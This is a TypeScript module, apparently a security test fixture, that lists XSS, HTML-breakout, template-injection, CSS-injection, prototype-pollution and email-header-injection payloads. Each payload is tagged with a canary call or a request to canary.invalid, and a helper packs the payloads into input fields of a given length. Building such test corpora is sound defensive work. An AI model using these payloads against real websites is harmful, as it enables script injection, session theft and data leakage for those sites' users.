/**
 * Texts that have run as script, broken out of their place or been read as a template somewhere. Where one is taken for
 * more than text it calls `ran` with its number, asks `canary.invalid` for something, or leaves an element with the
 * class `canary`.
 */
const RUN = 'RUN';

const elements = [
  '<script>RUN</script>',
  '<script src=//canary.invalid/a></script>',
  '<ScRiPt >RUN</sCrIpT\t>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<svg/onload=RUN>',
  '<img src=x onerror=RUN>',
  '<img/src="canary"/onerror="RUN">',
  '<body onload=RUN>',
  '<details open ontoggle=RUN>',
  '<input autofocus onfocus=RUN>',
  '<video><source onerror=RUN>',
  '<iframe srcdoc="<script>parent.RUN</script>">',
  '<iframe src=javascript:parent.RUN>',
  '<object data=//canary.invalid/o>',
  '<embed src=//canary.invalid/e>',
  '<a class=canary href=javascript:RUN>a</a>',
  '<form class=canary action=//canary.invalid/f><button>b</button></form>',
  '<math><mtext href="javascript:RUN">m</mtext></math>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><script href=data:,RUN />',
  '<meta http-equiv=refresh content="0;url=//canary.invalid/m">',
  '<base href=//canary.invalid/>',
  '<link rel=stylesheet href=//canary.invalid/l>',
  '<marquee class=canary onstart=RUN>',
  '<isindex type=image src=1 onerror=RUN>',
  '<b class=canary>',
];
const endings = [
  '</script><script>RUN</script>',
  '</style><svg/onload=RUN>',
  '</title><svg/onload=RUN>',
  '</textarea><svg/onload=RUN>',
  '</noscript><svg/onload=RUN>',
  '</template><svg/onload=RUN>',
  '--><svg/onload=RUN>',
  ']]><svg/onload=RUN>',
  '<!--<script>',
  '<![CDATA[<svg/onload=RUN>]]>',
  '<!--canary',
  '<plaintext class=canary>',
  '"><svg/onload=RUN>',
  "'><svg/onload=RUN>",
  '" onmouseover=RUN autofocus onfocus=RUN x="',
  "' autofocus onfocus=RUN x='",
  '` onmouseover=RUN `',
  '" style="background:url(//canary.invalid/s)" x="',
];
/** What parsers turn into something else when it is read a second time. */
const readTwice = [
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<svg></p><style><a title="</style><img src=x onerror=RUN>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
  '&lt;svg/onload=RUN&gt;',
  '&#60;svg/onload=RUN&#62;',
  '\\u003csvg/onload=RUN\\u003e',
  '%3Csvg/onload=RUN%3E',
  '＜svg/onload=RUN＞',
];
const scripts = [
  `"'<i>&`,
  "';RUN//",
  '";RUN//',
  '\\";RUN//',
  '"}];RUN;//',
  "'-RUN-'",
  '</script><!--',
  '"\u2028RUN\u2029"',
  '__proto__',
  `&quot; "'&\\`,
  '{"__proto__":{"onload":"RUN"}}',
];
const templates = [
  '{{constructor.constructor("RUN")()}}',
  `\${RUN}`,
  '#{RUN}',
  '<%= RUN %>',
  '{{name}} {{brand}} {{email}}',
  '$t(common:action.close)',
  '$t(account:login.title, {"x": "RUN"})',
  '<1>canary</1><0/>',
];
const addresses = [
  'javascript:RUN',
  'JaVaScRiPt:RUN//',
  'data:text/html,<script>RUN</script>',
  'vbscript:RUN',
  '[x](javascript:RUN)',
  '[x](data:text/html,<script>RUN</script>)',
  '<javascript:RUN>',
  '[x]: javascript:RUN',
  '//canary.invalid/p',
];
const styles = [
  'red;background:url(//canary.invalid/c)',
  '}*{background:url(//canary.invalid/d)}',
  'width:expression(RUN)',
  '@\\69mport"//canary.invalid/i";',
];
/** What a line of data does not take: characters that end a line or are not seen. */
const unseen = [
  'a\r\nBcc: canary\r\n\r\n<svg/onload=RUN>',
  'a\nContent-Type: text/html\n\n<svg/onload=RUN>',
  'x\u2028<svg/onload=RUN>\u2029',
  '\u202e>RUN=daolno/gvs<\u202c',
  '<\u200bsvg/onload=RUN>',
];

/** Each with a number of its own. */
export const payloads: readonly string[] = [
  ...[elements, endings, readTwice, scripts, templates, addresses, styles, unseen].flat(),
].map((text, index) => text.replaceAll(RUN, `ran(${index})`));

/** What a field takes, beside its length. */
export interface Taken {
  /** One line without invisible characters. */
  line?: boolean;
  /** `{{` in it would have to name something. */
  filled?: boolean;
  /** Markdown, where links have to lead somewhere. */
  markdown?: boolean;
  /** Neither brackets, addresses nor what looks like a figure. */
  plain?: boolean;
}

function isTaken(text: string, { line, filled, markdown, plain }: Taken): boolean {
  if (plain && /[<>{}/%\p{N}\p{Sc}]/u.test(text)) return false;
  if (line && /[\p{C}\u2028\u2029\t]/u.test(text)) return false;
  if (filled && text.includes('{{')) return false;
  return !(markdown && /\]|^<\w+:/.test(text));
}

/** The payloads that a field takes, in texts that are as long as it lets them be: several in one where they fit. */
export function textsFor(longest: number, taken: Taken): string[] {
  const texts: string[] = [];
  for (const payload of payloads.filter((one) => isTaken(one, taken) && one.length <= longest)) {
    const joined = texts.length === 0 ? payload : `${texts.at(-1)} ${payload}`;
    if (texts.length > 0 && joined.length <= longest) texts[texts.length - 1] = joined;
    else texts.push(payload);
  }
  return texts;
}
